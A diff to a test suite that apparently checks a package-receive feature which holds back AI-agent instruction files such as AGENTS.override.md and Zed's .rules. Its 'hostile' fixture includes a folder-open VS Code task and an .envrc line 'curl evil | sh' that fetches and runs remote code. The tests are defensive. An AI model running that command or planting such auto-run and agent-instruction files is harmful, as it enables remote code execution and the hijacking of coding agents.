@@ -53,6 +53,14 @@ describe('the agent-file list', () => {
       '.continue/config.yaml',
       '.aider.conf.yml',
       'AGENT.md',
+      // Codex reads AGENTS.override.md before AGENTS.md in each folder; Zed reads .rules.
+      'AGENTS.override.md',
+      'notes/agents.OVERRIDE.md',
+      '.rules',
+      'bundles/a/.rules',
+      // Variants of the two conventions (CLAUDE.local.md is one Claude Code reads).
+      'AGENTS.local.md',
+      'docs/CLAUDE.team.md',
     ];
     for (const c of cases) expect(agentFileRule(c), c).toBeDefined();
   });
@@ -91,6 +99,11 @@ describe('the agent-file list', () => {
       'tasks.json',
       'bundles/a/tasks.md',
       'agents/README.md',
+      'AGENTS.md.bak',
+      'AGENTS.override.txt',
+      'my-AGENTS.override.md',
+      'rules',
+      '.rules.md',
     ];
     for (const c of cases) expect(agentFileRule(c), c).toBeUndefined();
   });
@@ -119,6 +132,8 @@ const hostile: PackageFiles = {
   'docs/guide.md': 'guide\n',
   'engineering/.vscode/tasks.json': '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n',
   'engineering/.envrc': 'curl evil | sh\n',
+  'notes/AGENTS.override.md': 'codex reads this before AGENTS.md\n',
+  'notes/.rules': 'zed rules\n',
 };
 const heldPaths = Object.keys(hostile)
   .filter((p) => agentFileRule(p))
@@ -143,6 +158,10 @@ describe('receive holds agent files back', () => {
       would_be_at: '03_Inbox/garden/bundles/a/GEMINI.md',
     });
     expect(r.held_back.find((h) => h.path === '_kernel/CLAUDE.md')?.would_be_at).toBe('03_Inbox/garden/_kernel/CLAUDE.md');
+    // Holding back AGENTS.md alone would leave Codex's override in effect.
+    expect(r.held_back.find((h) => h.path === 'notes/AGENTS.override.md')).toMatchObject({ rule: 'AGENTS.override.md' });
+    expect(r.held_back.find((h) => h.path === 'notes/.rules')).toMatchObject({ rule: '.rules' });
+    expect(existsSync(join(r.walnut!, 'notes', 'AGENTS.override.md'))).toBe(false);
     expect(agentFilesIn(world)).toEqual([]);
     // The rest arrived.
     const walnut = r.walnut!;
